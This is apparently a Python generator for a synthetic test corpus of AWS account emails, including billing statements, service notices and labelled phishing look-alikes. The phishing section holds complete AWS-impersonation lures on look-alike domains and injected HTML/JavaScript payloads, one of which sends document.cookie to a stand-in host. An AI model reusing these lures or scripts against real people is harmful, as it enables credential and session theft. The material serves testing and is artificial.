BILL_SERVICES = ["Amazon Elastic Compute Cloud", "Amazon Relational Database Service", "Amazon Simple Storage Service",
                 "AWS Lambda", "Amazon CloudFront", "Amazon Virtual Private Cloud", "Amazon DynamoDB",
                 "Elastic Load Balancing", "Amazon CloudWatch", "AWS Key Management Service"]


def b_statement(m, c):
    a = m.acct
    m.sender = BILLING
    m.category, m.services, m.deadline = "billing", ["BILLING"], None
    m.group = "billing-statement-2026-10"
    m.subject = f"Amazon Web Services Billing Statement Available [Account: {a.id}]"
    svcs = rng.sample(BILL_SERVICES, rng.randint(4, 8))
    amts = [round(rng.lognormvariate(5, 1.6), 2) for _ in svcs]
    total = sum(amts)
    m.p("Greetings from Amazon Web Services,")
    m.p(f"This e-mail confirms that your latest billing statement for AWS account {a.id} is available on "
        "the AWS web site. Your account will be charged the following:")
    m.pre(f"Total: ${total:,.2f}\nBilling period: October 1 - October 31, 2026\nAccount ID: {a.id}")
    m.table(["Service", "Charges (USD)"], [[s, f"${x:,.2f}"] for s, x in zip(svcs, amts)])
    m.p("You can see a complete breakdown of all charges on the Bills page of the Billing and Cost "
        "Management console: https://console.aws.amazon.com/billing/home#/bills")
    m.p("Thank you for using Amazon Web Services.\n\nSincerely,\nAmazon Web Services")
    m.p(FOOTER_EN)
    if c.get("pdf") == a.name:
        m.mime = "mixed-pdf"
        m.attach = (f"invoice-EUINUS26-{rng.randint(1000000, 9999999)}.pdf", make_pdf(a, total))


def make_pdf(a, total):
    text = f"Amazon Web Services Invoice - Account {a.id} - October 2026 - Total USD {total:,.2f}"
    stream = f"BT /F1 11 Tf 50 780 Td ({text}) Tj ET"
    objs = ["<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            "/Resources << /Font << /F1 5 0 R >> >> >>",
            f"<< /Length {len(stream)} >>\nstream\n{stream}\nendstream",
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    out = "%PDF-1.4\n"
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        out += f"{i} 0 obj\n{o}\nendobj\n"
    x = len(out)
    out += f"xref\n0 {len(objs) + 1}\n0000000000 65535 f \n" + "".join(f"{o:010d} 00000 n \n" for o in offs)
    out += f"trailer\n<< /Size {len(objs) + 1} /Root 1 0 R >>\nstartxref\n{x}\n%%EOF\n"
    return out.encode("latin-1")


def b_budget(m, c):
    a = m.acct
    m.sender = BUDGETS
    m.category, m.services, m.deadline = "billing", ["BILLING"], None
    name = c["budget"]
    m.group = f"budget-alert/{a.id}/{name}"
    m.subject = f"AWS Budgets: {name} has exceeded your alert threshold"
    limit = c["limit"]
    actual = round(limit * c["pct"] / 100, 2)
    m.p("Dear AWS Customer,")
    m.p(f"You requested that we alert you when the ACTUAL Cost associated with your {name} budget is greater "
        f"than {c['thr']}% of ${limit:,.2f} for the current month. The ACTUAL Cost associated with this budget "
        f"is ${actual:,.2f}. You can find additional details below and by accessing the AWS Budgets dashboard [1].")
    m.table(["Budget Name", "Budget Type", "Budgeted Amount", "Alert Type", "Alert Threshold", "ACTUAL Amount"],
            [[name, "Cost", f"${limit:,.2f}", "ACTUAL", f"> {c['thr']}%", f"${actual:,.2f}"]])
    m.p(f"AWS Account {a.id}")
    m.refs(["https://console.aws.amazon.com/billing/home#/budgets"])
    m.mime, m.charset, m.cte, m.html_cte = "alt", "UTF-8", "7bit", "7bit"
    m.subj_enc = "raw"


def b_freetier(m, c):
    a = m.acct
    m.sender = FREETIER
    m.category, m.services, m.deadline = "billing", ["BILLING"], None
    m.group = f"free-tier-alert/{a.id}"
    m.subject = "AWS Free Tier limit alert"
    m.p("Hello,")
    m.p(f"Your AWS account {a.id} has exceeded 85% of the usage limit for one or more AWS Free Tier offers "
        "for November 2026.")
    m.table(["Product", "AWS Free Tier usage limit", "Month-to-date usage"],
            [["Amazon Elastic Compute Cloud", "750 hours of t2.micro or t3.micro Linux instances", f"{c['hours']} hours"],
             ["Amazon Simple Storage Service", "5 GB-month of Standard storage", f"{c['gb']} GB-month"]])
    m.p("Usage above the Free Tier limit is charged at standard rates. To see your usage, open the Free Tier "
        "page of the Billing and Cost Management console: https://console.aws.amazon.com/billing/home#/freetier")
    m.p("Sincerely,\nAWS Free Tier team")
    m.mime, m.charset, m.cte = "plain", "UTF-8", "quoted-printable"
    m.subj_enc = "raw"


# ---- informational ---------------------------------------------------------------
def b_wsp(m, c):
    a = m.acct
    m.sender = MARKETING
    m.category, m.services, m.deadline = "informational", ["WORKSPACES"], None
    m.group = "workspaces-wsp-ga"
    m.subject = "WorkSpaces Streaming Protocol is Generally Available for Production Use"
    m.p("Hello,")
    m.p("Amazon WorkSpaces Streaming Protocol (WSP) is now generally available for production use. WSP is a "
        "cloud-native streaming protocol that adapts to changing network conditions and supports "
        "bidirectional audio and video for conferencing, smart card authentication and more.")
    m.p(f"You are receiving this message because your AWS account {a.id} has Amazon WorkSpaces. Existing "
        "WorkSpaces keep using their current protocol; you can create new bundles with WSP or migrate "
        "existing WorkSpaces when you are ready.")
    m.refs(["https://docs.aws.amazon.com/workspaces/latest/adminguide/amazon-workspaces-protocols.html"])
    sign_en(m, "The Amazon WorkSpaces Team")


def b_sechub(m, c):
    a = m.acct
    m.category, m.services, m.deadline = "informational", ["SECURITYHUB"], None
    m.group = "securityhub-finding-type-names"
    m.subject = "Notification on changes to the names of finding types in AWS Security Hub"
    m.p("Hello,")
    m.p(f"We are writing to let you know that AWS Security Hub has renamed a set of finding types to align "
        "them with the Open Cybersecurity Schema Framework. Your AWS account "
        f"{a.id} has Security Hub enabled. The new names appear in findings generated since "
        "November 16, 2026; findings generated earlier keep their original names.")
    m.table(["Previous finding type", "New finding type"],
            [["Software and Configuration Checks/Industry and Regulatory Standards",
              "Software and Configuration Checks/Compliance Standards"],
             ["Software and Configuration Checks/Vulnerabilities/CVE",
              "Software and Configuration Checks/Vulnerabilities/Known Vulnerabilities"]])
    m.p("If you filter findings or route them with Amazon EventBridge rules by finding type, review those "
        "filters so that they match both names.")
    sign_en(m)


def b_ga(m, c):
    a = m.acct
    m.sender = MARKETING
    m.category, m.services, m.deadline = "informational", ["RDS"], None
    m.group = "aurora-dsql-ga-osaka"
    m.regions = {"ap-northeast-3"}
    m.accounts = set()
    if m.lang == "ja":
        m.subject = "【一般提供開始】Amazon Aurora DSQL がアジアパシフィック (大阪) リージョンでご利用いただけるようになりました"
        m.p("AWS をご利用いただきありがとうございます。")
        m.p("Amazon Aurora DSQL が、アジアパシフィック (大阪) リージョン (ap-northeast-3) で一般提供を開始しました。"
            "サーバーレスの分散 SQL データベースで、東京リージョンとのマルチリージョンクラスターも構成できます。")
        m.p("詳細はこちら: https://aws.amazon.com/jp/rds/aurora/dsql/")
        m.p("本メールは、AWS からのお知らせの配信を希望されたお客様にお送りしています。")
        m.mime, m.charset, m.cte = "alt", "UTF-8", "base64"
        m.html_cte = "base64"
        m.subj_enc = "b"
        return
    m.subject = "Amazon Aurora DSQL is now generally available in the Asia Pacific (Osaka) Region"
    m.p("Hello,")
    m.p("Amazon Aurora DSQL, the serverless distributed SQL database, is now generally available in the "
        "Asia Pacific (Osaka) Region. You can create single-Region clusters there, or multi-Region clusters "
        "that pair Osaka with Asia Pacific (Tokyo).")
    m.p("Learn more: https://aws.amazon.com/rds/aurora/dsql/")
    m.p("You are receiving this e-mail because you subscribed to AWS product announcements.")
    m.p(COPY_EN)


def b_notice_a(m, c):
    a = m.acct
    m.category, m.services, m.deadline = "informational", ["HEALTH"], None
    m.group = "aws-notification/health-console"
    m.subject = "AWS Notification"
    m.p("Hello,")
    m.p("The AWS Health Dashboard has a new home. Account events that you saw on the Personal Health "
        "Dashboard now appear in the AWS Health console at https://health.aws.amazon.com, together with "
        "the service health of all AWS Regions.")
    m.p(f"Nothing changes in how you receive notifications for AWS account {a.id}. Bookmarks to the old "
        "address are redirected.")
    sign_en(m)


def b_notice_b(m, c):
    a = m.acct
    m.category, m.services, m.deadline = "informational", [], None
    m.group = "aws-notification/alternate-contacts"
    m.subject = "AWS Notification"
    m.p("Hello,")
    m.p(f"Our records show that AWS account {a.id} has no security alternate contact. AWS sends notices "
        "about security, abuse and compromised credentials to the security contact as well as to the "
        "root user's e-mail address.")
    m.p("We recommend that you add a security contact, preferably a distribution list, on the Account page "
        "of the AWS Management Console: https://console.aws.amazon.com/billing/home#/account")
    sign_en(m)


def b_resolved(m, c):
    a = m.acct
    m.sender = HEALTH
    m.category, m.services, m.deadline = "informational", ["EC2"], None
    m.group = "ec2-api-errors-us-east-1-2026-11-12"
    m.regions = {"us-east-1"}
    m.subject = f"[Resolved] Increased API error rates for Amazon EC2 in US-EAST-1 [AWS Account: {a.id}]"
    arn = health_arn("us-east-1", "EC2", "AWS_EC2_OPERATIONAL_ISSUE")
    m.p("Hello,")
    m.p("Between 08:12 and 09:47 PST on November 12, 2026, we experienced increased error rates and "
        "latencies for the RunInstances and DescribeInstances APIs in the US-EAST-1 Region. Running "
        "instances were not affected. The issue has been resolved and the service is operating normally.")
    m.pre(f"Service: EC2\nEvent type code: AWS_EC2_OPERATIONAL_ISSUE\nEvent type category: issue\n"
          f"Region: us-east-1\nStart time: Thu, 12 Nov 2026 16:12:00 GMT\nEnd time: Thu, 12 Nov 2026 17:47:00 GMT\n"
          f"Affected account: {a.id}")
    m.p("View this event in the AWS Health Dashboard:\n" + health_link(arn))
    m.p(COPY_EN)


def b_reinvent(m, c):
    a = m.acct
    m.sender = MARKETING
    m.category, m.services, m.deadline = "informational", [], None
    m.group = "marketing-reinvent-2026-recap"
    m.accounts = set()
    m.subject = "AWS re:Invent 2026: the launches you may have missed"
    m.p("Hello,")
    m.p("Catch up on the keynotes and the most-watched sessions of AWS re:Invent 2026, now available on "
        "demand, and find the launches for the services you use.")
    m.p("Watch on demand: https://reinvent.awsevents.com/on-demand/")
    m.p("You are receiving this e-mail because you opted in to AWS marketing communications. "
        "Unsubscribe: https://pages.awscloud.com/communication-preferences")
    m.p(COPY_EN)


# ---- look-alikes (phishing) -------------------------------------------------------
def b_ph_compromised(m, c):
    a = m.acct
    m.sender = ("Amazon Web Services", "aws-security@amazonaws-security.com")
    m.phishing, m.category, m.services = True, "security-incident", ["IAM"]
    m.deadline = (c["ts"] + dt.timedelta(days=1)).date()
    m.group = "phish/compromised-amazonaws-security"
    m.subject = f"Action Required: Your AWS account {a.id} is compromised"
    m.p("Hello,")
    m.p(f"We have detected unauthorized sign-in attempts to your AWS account {a.id}. To protect your data, "
        "access to the account has been limited.")
    m.p("You must verify your identity within 24 hours, or the account and all its resources will be "
        "permanently deleted:")
    m.p("https://amazonaws-security.com/console/verify?account=" + a.id)
    m.p("AWS Security Team")
    m.mime, m.charset, m.cte, m.html_cte = "alt", "UTF-8", "quoted-printable", "quoted-printable"
    m.subj_enc = "raw"
    m.auth = "own-pass"


def b_ph_billing(m, c):
    a = m.acct
    m.sender = ("Amazon Web Services", "no-reply@amazon.com-account-verify.net")
    m.phishing, m.category, m.services, m.deadline = True, "billing", ["BILLING"], None
    m.group = "phish/billing-statement-account-verify"
    m.subject = f"Amazon Web Services Billing Statement Available [Account: {a.id}]"
    m.p("Greetings from Amazon Web Services,")
    m.p(f"We were unable to charge your payment method for the latest billing statement of account {a.id}. "
        "Total due: $1,284.17.")
    m.p("To avoid interruption of your services, update your payment information now:\n"
        "https://amazon.com-account-verify.net/billing/update-payment")
    m.p("Sincerely,\nAmazon Web Services")
    m.mime, m.charset, m.cte = "html", "UTF-8", "quoted-printable"
    m.subj_enc = "raw"
    m.auth = "fail"


def b_ph_abuse(m, c):
    a = m.acct
    m.sender = ("AWS Abuse", "support@aws.amazon.com.signin-check.io")
    m.phishing, m.category, m.services = True, "abuse", ["EC2"]
    m.deadline = (c["ts"] + dt.timedelta(days=1)).date()
    m.group = "phish/abuse-report-signin-check"
    m.subject = f"Your AWS Abuse Report [{c['case']}] [AWS ID {a.id}]"
    m.p("Hello,")
    m.p(f"Your AWS account {a.id} has been reported for sending spam. The account will be suspended in "
        "24 hours unless you sign in and review the report:")
    m.p("https://aws.amazon.com.signin-check.io/abuse/review?case=" + c["case"])
    m.p("AWS Trust & Safety")
    m.mime, m.charset, m.cte = "plain", "UTF-8", "8bit"
    m.subj_enc = "raw"
    m.auth = "fail"


def b_ph_payment(m, c):
    a = m.acct
    m.sender = ("AWS Billing", "billing@amaz0n-aws.com")
    m.phishing, m.category, m.services, m.deadline = True, "billing", ["BILLING"], None
    m.group = "phish/revise-payment-amaz0n"
    m.accounts = set()
    m.subject = "[Action Needed] Revise Payment Information"
    m.p("Hello,")
    m.p("We are having trouble authorizing your payment. Please verify or update your payment method "
        "to avoid losing access to your AWS services.")
    m.p("Revise Payment Information: https://amaz0n-aws.com/payments/revise")
    m.p("Amazon Web Services Customer Support")
    m.mime, m.charset, m.cte = "plain", "UTF-8", "7bit"
    m.subj_enc = "q"
    m.auth = "none"
    m.no_msgid = True


def b_ph_suspend_ja(m, c):
    a = m.acct
    m.sender = ("AWS サポート", "no-reply@amazon.com-account-verify.net")
    m.lang = "ja"
    m.phishing, m.category, m.services = True, "security-incident", ["IAM"]
    m.deadline = (c["ts"] + dt.timedelta(days=2)).date()
    m.group = "phish/ja-account-suspended"
    m.subject = f"【要対応】お客様の AWS アカウント {a.id} は一時停止されました"
    m.p("AWS をご利用いただきありがとうございます。")
    m.p(f"お客様の AWS アカウント {a.id} で不審なサインインが検出されたため、アカウントを一時停止しました。"
        "48 時間以内に以下のリンクから本人確認を行ってください。確認が行われない場合、アカウントは閉鎖されます。")
    m.p("https://amazon.com-account-verify.net/ja/verify")
    m.p("アマゾン ウェブ サービス")
    m.mime, m.charset, m.cte = "plain", "UTF-8", "base64"
    m.subj_enc = "b"
    m.auth = "own-pass"


HOSTILE_SUBJECT = "Notice *urgent* _now_ [click](javascript:alert(1)) <script>alert(1)</script> `code`"


def b_ph_hostile_subject(m, c):
    a = m.acct
    m.sender = ("Amazon Web Services", "alerts@aws-console-secure.co")
    m.phishing, m.category, m.services = True, "security-incident", ["IAM"]
    m.deadline = None
    m.group = "phish/hostile-subject"
    m.subject = HOSTILE_SUBJECT
    m.p("Hello,")
    m.p(f"Unusual sign-in activity was detected on AWS account {a.id}. | Column | Injection |\n"
        "|---|---|\n| **bold** | [link](javascript:alert(2)) |")
    m.p("# Not a heading\n<iframe src=\"https://aws-console-secure.co/frame\"></iframe>\n"
        "Review the activity: https://aws-console-secure.co/review")
    m.mime, m.charset, m.cte = "plain", "UTF-8", "8bit"
    m.subj_enc = "raw"
    m.auth = "none"


def b_ph_hostile_body(m, c):
    a = m.acct
    m.sender = ("AWS Marketplace", "marketplace@aws-billing-support.info")
    m.phishing, m.category, m.services = True, "pricing", ["MARKETPLACE"]
    m.deadline = D(2026, 12, 1)
    m.group = "phish/hostile-body-marketplace"
    m.subject = "AWS Marketplace Price Change Notification"
    m.p("Hello,")
    m.p(f"The price of a product subscribed by account {a.id} changes on December 1, 2026. "
        "Confirm the new price <img src=x onerror=alert(1)> before that date, or your subscription "
        "will be cancelled: https://aws-billing-support.info/marketplace/confirm")
    m.p("AWS Marketplace")
    m.html_raw = (
        "<html><head><meta charset=\"utf-8\"><title>AWS Marketplace</title></head><body>\n"
        "<p>Hello,</p>\n"
        f"<p>The price of a product subscribed by account {a.id} changes on December 1, 2026.</p>\n"
        "<p>Confirm the new price <img src=x onerror=alert(1)> before that date, or your subscription will "
        "be cancelled: <a href=\"https://aws-billing-support.info/marketplace/confirm\" "
        "onclick=\"alert(document.cookie)\">Confirm price</a></p>\n"
        "<p>Literal text: &lt;img src=x onerror=alert(1)&gt;</p>\n"
        "<script>fetch('https://aws-billing-support.info/t?'+document.cookie)</script>\n"
        "<p>AWS Marketplace</p>\n</body></html>\n")
    m.mime, m.charset, m.cte, m.html_cte = "alt", "UTF-8", "quoted-printable", "quoted-printable"
    m.subj_enc = "raw"
    m.auth = "fail"


# ---------------------------------------------------------------------------
# campaign plan
# ---------------------------------------------------------------------------
def wave(builder, recips, t0, spread_h, **kw):
    """A mass notice: one message per recipient, sent t0 .. t0+spread."""
    out = []
    for a in recips:
        ts = t0 + dt.timedelta(seconds=rng.randint(0, int(spread_h * 3600)))
        c = dict(kw)
        c["t0"] = t0
        c["ts"] = ts
        out.append((ts, a, builder, c))
    return out


def plan():
    ev = []
    # --- abuse reports (per account) ---
    abuse_accts = accts("dev-sandbox", "ml-training", "stg-web", "mobile-backend", "ci-build", "prod-batch")
    abuse_times = [T(2026, 10, 31, 22, 47, 10),    # outside: late October (UTC)
                   T(2026, 11, 4, 13, 5, 44), T(2026, 11, 9, 2, 31, 7), T(2026, 11, 14, 19, 58, 30),
                   T(2026, 11, 21, 6, 12, 3), T(2026, 11, 27, 23, 41, 55)]
    for k, (a, ts) in enumerate(zip(abuse_accts, abuse_times)):
        reg = rng.choice(a.regions)
        case = str(rng.randint(10**7, 10**8 - 1)) if k % 2 == 0 else str(rng.randint(10**10, 10**11 - 1))
        ev.append((ts, a, b_abuse, {
            "ts": ts, "kind": k, "region": reg, "case": case,
            "iid": "i-0e7a201159810559a" if k == 1 else iid(trap=(k == 3)),
            "ip": rng.choice(IP_AWS) + f"{rng.randint(0, 255)}.{rng.randint(1, 254)}",
            "reporter": rng.choice(("abuse-desk@isp.example.net", "soc@university.example.edu",
                                    "noc@hosting.example.org")),
            "rep_t": ts - dt.timedelta(hours=rng.randint(2, 20)),
            "nlog": rng.randint(4, 9), "quoted_from": k in (0, 4),
            "sender": ABUSE_EC2 if k % 3 != 2 else ABUSE_AWS}))
    # --- security incidents ---
    for a, ts, rel in ((BY_NAME["dev-sandbox"], T(2026, 11, 7, 4, 18, 2), False),
                       (BY_NAME["data-lake"], T(2026, 11, 23, 11, 2, 40), True)):
        ev.append((ts, a, b_compromised, {"ts": ts, "key": akia(), "relative": rel,
                                          "user": rng.choice(("ci-deployer", "terraform", "backup-user")),
                                          "deadline": ts.date() + dt.timedelta(days=5)}))
    for a, ts in ((BY_NAME["ml-training"], T(2026, 11, 12, 21, 40, 9)), (BY_NAME["eu-commerce"], T(2026, 11, 25, 3, 3, 3))):
        regs = sorted(set(a.regions) | set(rng.sample(["us-east-1", "us-west-2", "eu-west-1", "ap-southeast-1", "sa-east-1"], 2)))
        ev.append((ts, a, b_irregular, {"ts": ts, "regs": regs, "n": rng.randint(12, 96),
                                        "itype": rng.choice(("p4d.24xlarge", "g5.12xlarge", "c6i.32xlarge")),
                                        "deadline": ts.date() + dt.timedelta(days=4),
                                        "dstyle": "long" if a.name == "ml-training" else "dmy",
                                        "rstyle": "code" if a.name == "ml-training" else "both"}))
    ts = T(2026, 11, 16, 8, 20, 31)
    ev.append((ts, BY_NAME["stg-api"], b_key_exposed, {"ts": ts, "key": akia(), "user": "github-actions",
                                                        "deadline": D(2026, 11, 18)}))
    ts = T(2026, 11, 19, 1, 55, 12)
    ev.append((ts, BY_NAME["jp-ec-stg"], b_key_exposed, {"ts": ts, "key": akia(), "user": "batch-uploader",
                                                          "deadline": D(2026, 11, 20)}))

    # --- action required ---
    rds = sample(EN_ACCTS, 15) + sample(JA_ACCTS, 3)
    for must in (MGMT, BY_NAME["prod-payments"]):
        if must not in rds:
            rds.append(must)
    members = {MGMT.id: sample([x for x in EN_ACCTS if x is not MGMT], 3)}
    ev += wave(b_rds_cert, rds, T(2026, 11, 3, 16, 0), 6, rstyle="code", csv="prod-payments", members=members)
    rds_rem = sample([a for a in rds if a.lang == "en" and a is not MGMT], 6)
    ev += wave(b_rds_reminder, rds_rem, T(2026, 11, 17, 16, 30), 3, rstyle="name")

    lam = sample(EN_ACCTS, 13) + sample(JA_ACCTS, 3)
    ev += wave(b_lambda_rt, lam, T(2026, 11, 5, 18, 0), 4)
    lam_rem = sample([a for a in lam if a.lang == "en"], 4) + sample([a for a in lam if a.lang == "ja"], 2)
    ev += wave(b_lambda_rt, lam_rem, T(2026, 11, 24, 17, 0), 2, reminder=True)

    ev += wave(b_lambda_policy, sample(EN_ACCTS, 7), T(2026, 11, 9, 20, 0), 3)
    ev += wave(b_eecs, sample(EN_ACCTS, 8), T(2026, 11, 2, 22, 0), 5)
    ev += wave(b_xray, sample(EN_ACCTS, 5), T(2026, 11, 12, 15, 0), 2)
    ev += wave(b_al2, sample(EN_ACCTS, 9), T(2026, 11, 6, 14, 0), 8, rstyle="name")
    sgw = sample(EN_ACCTS, 6)
    ev += wave(b_sgw, sgw, T(2026, 11, 4, 19, 0), 3)
    ev += wave(b_sgw, sample(sgw, 3), T(2026, 11, 26, 19, 0), 1, reminder=True)
    ws = sample(EN_ACCTS, 5)
    ev += wave(b_workspaces_fw, ws, T(2026, 11, 10, 23, 0), 2)
    ev += wave(b_workspaces_fw, sample(ws, 3), T(2026, 11, 23, 23, 0), 2, reminder=True)
    ev += wave(b_elb, sample(EN_ACCTS, 8), T(2026, 11, 13, 17, 0), 5)
    ev += wave(b_connect, sample(EN_ACCTS, 4), T(2026, 11, 16, 20, 0), 2)
    eks = sample(EN_ACCTS, 6) + accts("jp-ec-prod", "jp-media")
    ev += wave(b_eks, eks, T(2026, 11, 2, 9, 0), 6)
    ev += wave(b_eks, sample([a for a in eks if a.lang == "en"], 4), T(2026, 11, 19, 9, 0), 3, reminder=True)
    ev += wave(b_robomaker, sample(EN_ACCTS, 3) + accts("jp-media"), T(2026, 11, 18, 21, 0), 2)
    ct = sample([a for a in EN_ACCTS if a is not MGMT], 7) + [MGMT]
    ct_members = {MGMT.id: sample([x for x in EN_ACCTS if x is not MGMT], 4)}
    ev += wave(b_cloudtrail, ct, T(2026, 11, 11, 18, 0), 3, members=ct_members)

    # --- maintenance ---
    for k in range(10):
        a = rng.choice(ACCTS)
        if k == 9:
            ts = T(2026, 12, 1, 0, 20, 5)                  # outside: early December (UTC)
        else:
            ts = MONTH_START + dt.timedelta(days=1 + k * 3, seconds=rng.randint(0, 86399))
        ev.append((ts, a, b_retire, {"ts": ts, "iid": iid(trap=(k == 4)), "region": rng.choice(a.regions),
                                     "days": rng.randint(10, 16), "dstyle": ("iso", "long", "ltime")[k % 3]}))
    ev += wave(b_rds_os, sample(EN_ACCTS, 9) + accts("jp-ec-prod", "jp-corp-it"), T(2026, 11, 20, 2, 0), 6)
    ev += wave(b_elasticache, sample(EN_ACCTS, 6), T(2026, 11, 24, 1, 0), 4, rstyle="upper")
    ev += wave(b_aurora, sample(EN_ACCTS, 8), T(2026, 11, 25, 18, 0), 4)
    ev += wave(b_docdb, sample(EN_ACCTS, 6), T(2026, 11, 9, 3, 0), 3)
    ev += wave(b_reboot, sample(EN_ACCTS, 5) + accts("jp-ec-prod"), T(2026, 11, 27, 4, 0), 3)
    # a Japanese copy stamped 07:40 JST on 1 December = 22:40 UTC on 30 November (inside the month)
    ts = T(2026, 11, 30, 22, 40, 0)
    ev.append((ts, BY_NAME["jp-ec-stg"], b_reboot, {"ts": ts, "t0": ts, "date_style": "jst", "sjis": True}))

    # --- security advisories ---
    ev += wave(b_s3_public, sample(EN_ACCTS, 6) + accts("jp-ec-stg"), T(2026, 11, 8, 12, 0), 4, rstyle="both")
    ev += wave(b_ecs_docker, sample(EN_ACCTS, 6), T(2026, 11, 14, 16, 0), 2)
    ev += wave(b_bulletin, sample(EN_ACCTS, 5), T(2026, 11, 21, 0, 30), 1)

    # --- pricing ---
    ev += wave(b_marketplace, sample(EN_ACCTS, 5), T(2026, 11, 7, 9, 0), 2)
    ev += wave(b_ipv4, sample(EN_ACCTS, 8), T(2026, 11, 15, 17, 0), 6, rstyle="name")
    ev += wave(b_rds_es, sample(EN_ACCTS, 5) + accts("jp-ec-prod", "jp-corp-it"), T(2026, 11, 19, 16, 0), 4)

    # --- billing ---
    stm = sample(ACCTS, 11)
    for must in ("prod-web", "prod-payments", "log-archive"):
        if BY_NAME[must] not in stm:
            stm.append(BY_NAME[must])
    ev += wave(b_statement, [a for a in stm if a.name != "log-archive"], T(2026, 11, 2, 7, 0), 20, pdf="prod-payments")
    if BY_NAME["log-archive"] in stm:
        # stamped 19:05 PDT on 31 October = 02:05 UTC on 1 November (inside the month)
        ts = T(2026, 11, 1, 2, 5, 0)
        ev.append((ts, BY_NAME["log-archive"], b_statement, {"ts": ts, "t0": ts, "date_style": "pdt"}))
    for a, ts, name, limit, thr, pct, style in (
            (BY_NAME["prod-api"], T(2026, 11, 18, 6, 0, 12), "prod-api-monthly", 4000.0, 80, 83.4, None),
            (BY_NAME["dev-sandbox"], T(2026, 11, 11, 6, 0, 41), "sandbox-cap", 500.0, 100, 112.9, None),
            (BY_NAME["ml-training"], T(2026, 12, 1, 3, 30, 0), "gpu-monthly", 12000.0, 90, 91.2, "pst")):
        ev.append((ts, a, b_budget, {"ts": ts, "budget": name, "limit": limit, "thr": thr, "pct": pct,
                                     "date_style": style, "no_msgid": name == "sandbox-cap"}))
    for a, ts in ((BY_NAME["ci-build"], T(2026, 11, 20, 14, 22, 0)), (BY_NAME["jp-corp-it"], T(2026, 11, 22, 14, 22, 0))):
        ev.append((ts, a, b_freetier, {"ts": ts, "hours": rng.randint(640, 700), "gb": round(rng.uniform(4.3, 4.9), 1),
                                       "no_msgid": a.name == "ci-build"}))

    # --- informational ---
    ev += wave(b_wsp, sample(EN_ACCTS, 7), T(2026, 11, 17, 17, 0), 3)
    ev += wave(b_sechub, sample(EN_ACCTS, 8), T(2026, 11, 10, 19, 0), 3)
    ev += wave(b_ga, sample(EN_ACCTS, 5) + sample(JA_ACCTS, 3), T(2026, 11, 20, 1, 0), 2)
    ev += wave(b_notice_a, sample(EN_ACCTS, 4), T(2026, 11, 6, 22, 0), 2)
    ev += wave(b_notice_b, sample(EN_ACCTS, 3), T(2026, 11, 22, 22, 0), 2)
    ev += wave(b_resolved, sample([a for a in ACCTS if "us-east-1" in a.regions], 4), T(2026, 11, 12, 18, 5), 0.5)
    ev += wave(b_reinvent, sample(EN_ACCTS, 3), T(2026, 11, 29, 15, 0), 1)

    # --- look-alikes ---
    for b, name, ts, extra in (
            (b_ph_compromised, "prod-payments", T(2026, 11, 8, 3, 14, 15), {}),
            (b_ph_billing, "eu-commerce", T(2026, 11, 3, 10, 9, 8), {}),
            (b_ph_abuse, "prod-web", T(2026, 11, 15, 23, 59, 1), {"case": str(rng.randint(10**7, 10**8 - 1))}),
            (b_ph_payment, "anz-retail", T(2026, 11, 26, 5, 36, 44), {}),
            (b_ph_suspend_ja, "jp-ec-prod", T(2026, 11, 13, 0, 12, 40), {}),
            (b_ph_hostile_subject, "stg-web", T(2026, 11, 20, 9, 30, 0), {}),
            (b_ph_hostile_body, "prod-api", T(2026, 11, 28, 12, 0, 0), {})):
        c = {"ts": ts}
        c.update(extra)
        ev.append((ts, BY_NAME[name], b, c))
    return ev


def b_rds_reminder(m, c):
    b_rds_cert(m, c)
    m.reminder = True
    m.subject = "Reminder: " + m.subject
    m.group = "rds-ca-rotation-2027-01-15/reminder"
    m.blocks.insert(1, ("p", "This is a reminder of the message we sent on November 3, 2026. Our records show "
                             "that the DB instances below still use the expiring certificate."))


# ---------------------------------------------------------------------------
# MIME: encoding helpers
# ---------------------------------------------------------------------------
def is_ascii(s):
    return all(ord(ch) < 128 for ch in s)


def fold_raw(name, value, width=78):
    """Fold an unstructured ASCII header by inserting newlines before spaces."""
    words = value.split(" ")
    lines, cur = [], name + ":"
    for w in words:
        if len(cur) + 1 + len(w) > width and cur.strip() != name + ":":
            lines.append(cur)
            cur = " " + w
        else:
            cur += " " + w
    lines.append(cur)
    return "\n".join(lines)


def b_words(s, charset="UTF-8", codec="utf-8", maxb=45):
    """Split s into encoded words of whole characters, each at most maxb bytes before base64."""
    words, cur = [], ""
    for ch in s:
        if len((cur + ch).encode(codec)) > maxb and cur:
            words.append(cur)
            cur = ch
        else:
            cur += ch
    if cur:
        words.append(cur)
    return [f"=?{charset}?B?{base64.b64encode(w.encode(codec)).decode()}?=" for w in words]


def b_split(s):
    """Two or more UTF-8 B-words where the first word ends in '=' padding.

    The first cut is at an ASCII/non-ASCII boundary when that gives padding
    (as in "[Action Required] Amazon RDS " + "証明書の更新"), else after a space.
    """
    def ok(cut):
        k = len(s[:cut].encode("utf-8"))
        return k % 3 != 0 and k <= 45
    script = [i for i in range(1, len(s)) if s[i - 1].isascii() != s[i].isascii()]
    spaces = [i for i in range(len(s) - 1, 0, -1) if s[i - 1] == " "]
    cut = next((i for i in script + spaces if ok(i)), None)
    if cut is None:
        cut = next((i for i in range(len(s) - 1, 0, -1) if ok(i)), None)
    if cut is None:             # every prefix is whole 3-byte characters: no padding possible
        return b_words(s)
    first = f"=?UTF-8?B?{base64.b64encode(s[:cut].encode()).decode()}?="
    assert first.endswith("=?="), s
    return [first] + b_words(s[cut:])


def q_words(s, maxlen=75):
    words, cur = [], ""
    pre, post = "=?UTF-8?Q?", "?="
    for ch in s:
        if ch.isascii() and (ch.isalnum() or ch in "!*+-/"):
            enc = ch
        elif ch == " ":
            enc = "_"
        else:
            enc = "".join(f"={b:02X}" for b in ch.encode("utf-8"))
        if len(pre) + len(cur) + len(enc) + len(post) > maxlen:
            words.append(pre + cur + post)
            cur = enc
        else:
            cur += enc
    if cur:
        words.append(pre + cur + post)
    return words


def join_words(name, words, same_line_first_pair=False):
    out = f"{name}: {words[0]}"
    for k, w in enumerate(words[1:]):
        out += (" " if (same_line_first_pair and k == 0) else "\n ") + w
    return out


def encode_subject(s, style, name="Subject"):
    if style == "raw":
        assert is_ascii(s), s
        return fold_raw(name, s)
    if style == "q":
        return join_words(name, q_words(s))
    if style == "b":
        return join_words(name, b_words(s))
    if style == "bsplit":
        return join_words(name, b_split(s), same_line_first_pair=True)
